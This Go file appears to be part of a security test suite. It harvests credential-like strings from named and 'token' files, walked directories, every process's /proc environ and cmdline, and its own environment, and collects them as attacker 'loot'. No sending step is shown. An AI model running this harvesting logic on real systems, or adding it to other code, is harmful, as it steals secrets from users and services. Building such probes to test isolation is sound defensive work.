//go:build linux

package main

import (
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
)

// word is what a secret looks like: the suite's secrets are all long runs
// of these characters, and so are most real tokens.
var word = regexp.MustCompile(`[A-Za-z0-9_-]{16,}`)

const (
	maxWords     = 20000
	maxFileBytes = 64 << 10
	maxWalkFiles = 4000
	maxTokens    = 400
)

// words are the distinct token-like words of b.
func words(b []byte) []string {
	seen := map[string]bool{}
	var out []string
	for _, w := range word.FindAll(b, -1) {
		if s := string(w); !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	return out
}

// limitRead keeps a result's words bounded and in a stable order.
func limitRead(ws []string) []string {
	seen := map[string]bool{}
	var out []string
	for _, w := range ws {
		if !seen[w] {
			seen[w] = true
			out = append(out, w)
		}
	}
	sort.Strings(out)
	if len(out) > maxWords {
		out = out[:maxWords]
	}
	return out
}

// readSmall reads at most maxFileBytes of path.
func readSmall(path string) ([]byte, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return io.ReadAll(io.LimitReader(f, maxFileBytes))
}

// walkRead reads every regular file under dir, bounded, and reports how
// many it could read.
func walkRead(dir string) (ws []string, n int) {
	_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || n >= maxWalkFiles {
			return filepath.SkipDir
		}
		if d.Type().IsRegular() {
			if b, err := readSmall(p); err == nil {
				n++
				ws = append(ws, words(b)...)
			}
		}
		return nil
	})
	return ws, n
}

// procFiles reads file (environ, cmdline) of every process /proc shows.
func procFiles(file string) map[int][]byte {
	out := map[int][]byte{}
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		if b, err := readSmall("/proc/" + e.Name() + "/" + file); err == nil {
			out[pid] = b
		}
	}
	return out
}

var loot struct {
	once   sync.Once
	tokens []string
}

// tokens are the credentials an attacker would try: every token-like word
// of the files it was pointed at, of the places it could walk, and of
// every process's environment and command line it could read, those of
// the named files first.
func tokens(c *config) []string {
	loot.once.Do(func() {
		var ws []string
		for _, p := range append(append([]string(nil), c.Paths...), c.HostFile) {
			if b, err := readSmall(p); err == nil {
				ws = append(ws, words(b)...)
			}
		}
		for _, p := range tokenFiles(c.TokenSearch) {
			if b, err := readSmall(p); err == nil {
				ws = append(ws, words(b)...)
			}
		}
		for _, d := range c.Walk {
			w, _ := walkRead(d)
			ws = append(ws, w...)
		}
		for _, file := range []string{"environ", "cmdline"} {
			for _, b := range procFiles(file) {
				ws = append(ws, words(b)...)
			}
		}
		ws = append(ws, words([]byte(strings.Join(os.Environ(), "\n")))...)
		seen := map[string]bool{}
		for _, w := range ws {
			if !seen[w] && len(w) <= 128 && strings.ContainsAny(w, "0123456789") {
				seen[w] = true
				loot.tokens = append(loot.tokens, w)
			}
		}
		if len(loot.tokens) > maxTokens {
			loot.tokens = loot.tokens[:maxTokens]
		}
	})
	return loot.tokens
}

// maxSearchDepth bounds how deep tokenFiles looks.
const maxSearchDepth = 4

// tokenFiles are the files under dirs, a few levels deep, whose name holds
// "token".
func tokenFiles(dirs []string) []string {
	var out []string
	for _, dir := range dirs {
		base := strings.Count(filepath.Clean(dir), string(filepath.Separator))
		seen := 0
		_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				return nil
			}
			if seen++; seen > 20*maxWalkFiles {
				return filepath.SkipAll
			}
			if d.IsDir() && strings.Count(p, string(filepath.Separator))-base >= maxSearchDepth {
				return filepath.SkipDir
			}
			if d.Type().IsRegular() && strings.Contains(d.Name(), "token") {
				out = append(out, p)
			}
			return nil
		})
	}
	return out
}
